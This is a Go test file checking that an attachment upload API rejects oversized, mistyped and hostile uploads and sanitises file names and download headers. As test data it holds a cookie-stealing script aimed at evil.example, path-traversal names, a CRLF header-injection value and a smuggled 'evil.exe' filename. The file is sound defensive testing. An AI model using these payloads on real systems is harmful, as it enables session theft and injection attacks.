package api_test

import (
	"bytes"
	"fmt"
	"io"
	"mime"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"github.com/qualtrack/qualtrack/backend/internal/config"
	"github.com/qualtrack/qualtrack/backend/internal/model"
	"github.com/qualtrack/qualtrack/backend/internal/testutil"
)

func TestAttachmentTooLarge(t *testing.T) {
	t.Parallel()
	srv := testutil.NewServer(t, func(c *config.Config) { c.MaxUploadMB = 1 })
	owners := attCreateOwners(t, srv)
	path := owners.path(model.OwnerSite)
	limit := 1 << 20
	pdfOf := func(n int) []byte {
		return append(append([]byte(nil), attPDF...), bytes.Repeat([]byte{'x'}, n-len(attPDF))...)
	}

	tests := []struct {
		name     string
		body     func() (any, string)
		wantCode int
	}{
		{"file one byte over the limit", func() (any, string) {
			b, ct := attMultipart(t, attFilePart("big.pdf", "application/pdf", pdfOf(limit+1)))
			return b, ct
		}, http.StatusRequestEntityTooLarge},
		{"declared length over the body limit", func() (any, string) {
			b, ct := attMultipart(t, attFilePart("big.pdf", "application/pdf", pdfOf(2*limit)))
			return b, ct
		}, http.StatusRequestEntityTooLarge},
		{"streamed without a length", func() (any, string) {
			b, ct := attMultipart(t, attFilePart("big.pdf", "application/pdf", pdfOf(2*limit)))
			return io.MultiReader(bytes.NewReader(b)), ct
		}, http.StatusRequestEntityTooLarge},
		{"large field before the file", func() (any, string) {
			b, ct := attMultipart(t,
				attPart{Disposition: `form-data; name="note"`, Body: bytes.Repeat([]byte("n"), 2*limit)},
				attFilePart("small.pdf", "application/pdf", attPDF))
			return io.MultiReader(bytes.NewReader(b)), ct
		}, http.StatusRequestEntityTooLarge},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			body, ct := tt.body()
			r := attPost(srv, model.RoleProcurement, path, ct, body).Want(tt.wantCode)
			if r.ErrorCode() != "too_large" || !strings.Contains(string(r.Body), "1 MB") {
				t.Errorf("body %s: want too_large naming the 1 MB limit", r.Body)
			}
			attWantNothingStored(t, srv)
		})
	}

	// Exactly the limit is accepted.
	a := attDecode(attUpload(t, srv, model.RoleProcurement, path, "exact.pdf", pdfOf(limit)).Want(http.StatusCreated))
	if a.Size != int64(limit) {
		t.Fatalf("size %d, want %d", a.Size, limit)
	}
}

func TestAttachmentFileTypes(t *testing.T) {
	t.Parallel()
	srv := testutil.NewServer(t, nil)
	owners := attCreateOwners(t, srv)
	path := owners.path(model.OwnerCertification)

	accepted := []struct {
		name, file string
		content    []byte
		want       string
	}{
		{"png", "photo.png", attPNG, "image/png"},
		{"text", "notes.txt", []byte("Checked ESD flooring.\n"), "text/plain; charset=utf-8"},
		{"csv", "measurements.csv", []byte("point,ohm\nA1,1.2e6\n"), "text/csv; charset=utf-8"},
		{"docx", "CAPA plan.docx", attDocx(t, docxMain), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"},
	}
	for _, tt := range accepted {
		t.Run("accepts "+tt.name, func(t *testing.T) {
			// The declared type is never trusted, in either direction.
			r := attUploadParts(t, srv, model.RoleProcurement, path, attFilePart(tt.file, "text/html", tt.content)).Want(http.StatusCreated)
			if a := attDecode(r); a.ContentType != tt.want {
				t.Fatalf("content type %q, want %q", a.ContentType, tt.want)
			}
		})
	}
	before := attRowCount(t, srv)
	stored, _ := attDisk(t, srv)

	refused := []struct {
		name, file, declared string
		content              []byte
	}{
		{"html named pdf", "report.pdf", "application/pdf", attHTML},
		{"svg", "logo.svg", "image/svg+xml", attSVG},
		{"svg named png", "logo.png", "image/png", attSVG},
		{"executable named pdf", "report.pdf", "application/pdf", attELF},
		{"script", "macro.js", "text/plain", []byte("document.location='https://evil.example/'+document.cookie")},
		{"zip named docx", "report.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", attDocx(t, "application/vnd.ms-word.document.macroEnabled.main+xml")},
	}
	for _, tt := range refused {
		t.Run("refuses "+tt.name, func(t *testing.T) {
			r := attUploadParts(t, srv, model.RoleProcurement, path, attFilePart(tt.file, tt.declared, tt.content)).Want(http.StatusUnprocessableEntity)
			why := r.ErrorFields()["file"]
			if r.ErrorCode() != "validation_failed" || !strings.Contains(why, "Allowed: PDF, PNG, JPEG") {
				t.Fatalf("body %s: want validation_failed listing what is allowed on field file", r.Body)
			}
			if n := attRowCount(t, srv); n != before {
				t.Fatalf("%d rows, want %d", n, before)
			}
			if now, temp := attDisk(t, srv); len(now) != len(stored) || len(temp) != 0 {
				t.Fatalf("files %v (temporary %v), want %v", now, temp, stored)
			}
		})
	}
}

func TestAttachmentRequestErrors(t *testing.T) {
	t.Parallel()
	srv := testutil.NewServer(t, nil)
	owners := attCreateOwners(t, srv)
	path := owners.path(model.OwnerFinding)
	pdfBody, pdfCT := attMultipart(t, attFilePart("report.pdf", "application/pdf", attPDF))
	noFile, noFileCT := attMultipart(t, attPart{Disposition: `form-data; name="document"; filename="report.pdf"`, Body: attPDF})
	empty, emptyCT := attMultipart(t, attFilePart("empty.pdf", "application/pdf", nil))
	boundary := pdfCT[strings.Index(pdfCT, "boundary=")+len("boundary="):]

	tests := []struct {
		name        string
		role        model.Role
		path        string
		contentType string
		body        []byte
		want        int
		code        string
	}{
		{"missing file field", model.RoleProcurement, path, noFileCT, noFile, 422, "validation_failed"},
		{"empty file", model.RoleProcurement, path, emptyCT, empty, 422, "validation_failed"},
		{"json content type", model.RoleProcurement, path, "application/json", pdfBody, 400, "bad_request"},
		{"no boundary", model.RoleProcurement, path, "multipart/form-data", pdfBody, 400, "bad_request"},
		{"wrong boundary", model.RoleProcurement, path, "multipart/form-data; boundary=other", pdfBody, 400, "bad_request"},
		{"cut off body", model.RoleProcurement, path, pdfCT, pdfBody[:len(pdfBody)-len(boundary)-10], 400, "bad_request"},
		{"auditor", model.RoleAuditor, path, pdfCT, pdfBody, 403, "forbidden"},
		{"signed out", "", path, pdfCT, pdfBody, 401, "unauthenticated"},
		{"site not found", model.RoleProcurement, "/api/v1/sites/99999/attachments", pdfCT, pdfBody, 404, "not_found"},
		{"inspection not found", model.RoleProcurement, "/api/v1/inspections/99999/attachments", pdfCT, pdfBody, 404, "not_found"},
		{"finding not found", model.RoleProcurement, "/api/v1/findings/99999/attachments", pdfCT, pdfBody, 404, "not_found"},
		{"certification not found", model.RoleProcurement, "/api/v1/certifications/99999/attachments", pdfCT, pdfBody, 404, "not_found"},
		{"id not a number", model.RoleProcurement, "/api/v1/sites/abc/attachments", pdfCT, pdfBody, 404, "not_found"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			h := http.Header{"Content-Type": {tt.contentType}}
			if tt.role != "" {
				h.Set("Authorization", "Bearer "+srv.Tokens[tt.role])
			}
			r := srv.DoWith(h, http.MethodPost, tt.path, tt.body).Want(tt.want)
			if r.ErrorCode() != tt.code {
				t.Errorf("code %q, want %q (body %s)", r.ErrorCode(), tt.code, r.Body)
			}
			if tt.want == 422 && r.ErrorFields()["file"] == "" {
				t.Errorf("fields %v, want a message on file", r.ErrorFields())
			}
			attWantNothingStored(t, srv)
		})
	}

	reads := []struct {
		name, path string
		want       int
	}{
		{"list of missing site", "/api/v1/sites/99999/attachments", 404},
		{"list of missing certification", "/api/v1/certifications/99999/attachments", 404},
		{"list with unknown sort", path + "?sort=sha256", 422},
		{"missing attachment", "/api/v1/attachments/99999", 404},
		{"attachment id not a number", "/api/v1/attachments/x", 404},
	}
	for _, tt := range reads {
		t.Run(tt.name, func(t *testing.T) {
			srv.Do(model.RoleAuditor, http.MethodGet, tt.path, nil).Want(tt.want)
		})
	}
	srv.Do(model.RoleAdmin, http.MethodDelete, "/api/v1/attachments/99999", nil).Want(http.StatusNotFound)
}

func TestAttachmentHostileNames(t *testing.T) {
	t.Parallel()
	srv := testutil.NewServer(t, nil)
	owners := attCreateOwners(t, srv)
	path := owners.path(model.OwnerSite)
	long := strings.Repeat("n", 1000) + ".pdf"
	// The bytes are a PDF: a name without ".pdf" is kept with it added.

	tests := []struct {
		name    string
		part    attPart
		want    string // stored file_name
		wantASC string // the ASCII fallback in Content-Disposition
	}{
		{"unix traversal", attFilePart("../../etc/passwd", "", attPDF), "passwd.pdf", "passwd.pdf"},
		{"windows traversal", attFilePart(`..\..\windows\system.ini`, "", attPDF), "system.ini.pdf", "system.ini.pdf"},
		{"1000 characters", attFilePart(long, "", attPDF), strings.Repeat("n", 251) + ".pdf", strings.Repeat("n", 251) + ".pdf"},
		{"unicode", attFilePart("Prüfbericht 检验报告.pdf", "", attPDF), "Prüfbericht 检验报告.pdf", "Pr_fbericht ____.pdf"},
		{"no extension", attFilePart("Prüfbericht", "", attPDF), "Prüfbericht.pdf", "Pr_fbericht.pdf"},
		{"quotes", attFilePart(`the "final" report.pdf`, "", attPDF), `the "final" report.pdf`, "the _final_ report.pdf"},
		{"semicolon", attFilePart(`a.pdf; filename=evil.exe`, "", attPDF), "a.pdf; filename=evil.exe.pdf", "a.pdf_ filename=evil.exe.pdf"},
		{"header injection", attEncodedFilePart("x.pdf\r\nSet-Cookie: session=evil", attPDF), "x.pdfSet-Cookie: session=evil.pdf", "x.pdfSet-Cookie: session=evil.pdf"},
		{"NUL and newline", attEncodedFilePart("re\x00port\n.pdf", attPDF), "report.pdf", "report.pdf"},
		{"leading dots", attFilePart("...hidden.pdf", "", attPDF), "hidden.pdf", "hidden.pdf"},
		{"no name", attFilePart("", "", attPDF), "attachment.pdf", "attachment.pdf"},
		{"percent", attFilePart("100%25 done.pdf", "", attPDF), "100%25 done.pdf", "100_25 done.pdf"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			a := attDecode(attUploadParts(t, srv, model.RoleProcurement, path, tt.part).Want(http.StatusCreated))
			if a.FileName != tt.want {
				t.Fatalf("stored name %q, want %q", a.FileName, tt.want)
			}
			r := srv.Do(model.RoleAuditor, http.MethodGet, "/api/v1/attachments/"+strconv.FormatInt(a.ID, 10), nil).Want(http.StatusOK)
			cd := r.Header.Get("Content-Disposition")
			if strings.ContainsAny(cd, "\r\n\x00") {
				t.Fatalf("Content-Disposition %q carries control characters", cd)
			}
			for _, c := range cd {
				if c < 0x20 || c > 0x7e {
					t.Fatalf("Content-Disposition %q is not ASCII", cd)
				}
			}
			if !strings.HasPrefix(cd, `attachment; filename="`+tt.wantASC+`"; filename*=UTF-8''`) {
				t.Errorf("Content-Disposition %q, want the fallback %q", cd, tt.wantASC)
			}
			disp, params, err := mime.ParseMediaType(cd)
			if err != nil || disp != "attachment" || params["filename"] != tt.want {
				t.Errorf("a client reads %q %q (%v), want attachment %q", disp, params["filename"], err, tt.want)
			}
		})
	}
	// Whatever the names, every file is stored under its hash alone.
	stored, _ := attDisk(t, srv)
	if len(stored) != 1 || stored[0] != attSHA(attPDF)[:2]+"/"+attSHA(attPDF) {
		t.Fatalf("on disk %v, want only the content's hash", stored)
	}
}

func TestAttachmentInlineOnlyForImages(t *testing.T) {
	t.Parallel()
	srv := testutil.NewServer(t, nil)
	owners := attCreateOwners(t, srv)
	png := attDecode(attUpload(t, srv, model.RoleProcurement, owners.path(model.OwnerSite), "photo.png", attPNG).Want(http.StatusCreated))
	pdf := attDecode(attUpload(t, srv, model.RoleProcurement, owners.path(model.OwnerSite), "report.pdf", attPDF).Want(http.StatusCreated))

	tests := []struct {
		name string
		id   int64
		q    string
		want string
	}{
		{"image inline", png.ID, "?inline=1", "inline;"},
		{"image as download by default", png.ID, "", "attachment;"},
		{"pdf never inline", pdf.ID, "?inline=1", "attachment;"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := srv.Do(model.RoleAuditor, http.MethodGet, "/api/v1/attachments/"+strconv.FormatInt(tt.id, 10)+tt.q, nil).Want(http.StatusOK)
			if cd := r.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, tt.want) {
				t.Errorf("Content-Disposition %q, want it to start with %q", cd, tt.want)
			}
			if r.Header.Get("Content-Security-Policy") != "sandbox" || r.Header.Get("X-Content-Type-Options") != "nosniff" {
				t.Errorf("headers %v: want CSP sandbox and nosniff", r.Header)
			}
		})
	}
	srv.Do(model.RoleAuditor, http.MethodGet, "/api/v1/attachments/"+strconv.FormatInt(png.ID, 10)+"?inline=maybe", nil).Want(http.StatusUnprocessableEntity)
}

// PDF or image bytes under a name that says otherwise (.html, .js, .svg,
// .exe) are kept under a name whose extension agrees with the bytes, and
// every download carries nosniff and a sandbox policy.
func TestAttachmentNameAgreesWithContent(t *testing.T) {
	t.Parallel()
	srv := testutil.NewServer(t, nil)
	owners := attCreateOwners(t, srv)
	path := owners.path(model.OwnerSite)
	gif := []byte("GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")
	pdf := attPDF
	for _, tt := range []struct {
		sent, want string
		content    []byte
	}{
		{"invoice.html", "invoice.html.pdf", pdf},
		{"run.exe", "run.exe.pdf", pdf},
		{"logo.svg", "logo.svg.png", attPNG},
		{"tracker.js", "tracker.js.gif", gif},
		{"scan", "scan.pdf", pdf},
		{"photo.JPG.gif", "photo.JPG.gif", gif},
		{"report.PDF", "report.PDF", pdf},
		{"plan.png", "plan.png", attPNG},
	} {
		t.Run(tt.sent, func(t *testing.T) {
			a := attDecode(attUpload(t, srv, model.RoleProcurement, path, tt.sent, tt.content).Want(http.StatusCreated))
			if a.FileName != tt.want {
				t.Fatalf("stored as %q, want %q", a.FileName, tt.want)
			}
			r := srv.Do(model.RoleAuditor, http.MethodGet, fmt.Sprintf("/api/v1/attachments/%d", a.ID), nil).Want(http.StatusOK)
			_, params, err := mime.ParseMediaType(r.Header.Get("Content-Disposition"))
			if err != nil || params["filename"] != tt.want {
				t.Errorf("downloaded as %q (%v)", r.Header.Get("Content-Disposition"), err)
			}
			if r.Header.Get("X-Content-Type-Options") != "nosniff" || r.Header.Get("Content-Security-Policy") != "sandbox" {
				t.Errorf("download headers %v", r.Header)
			}
		})
	}
}
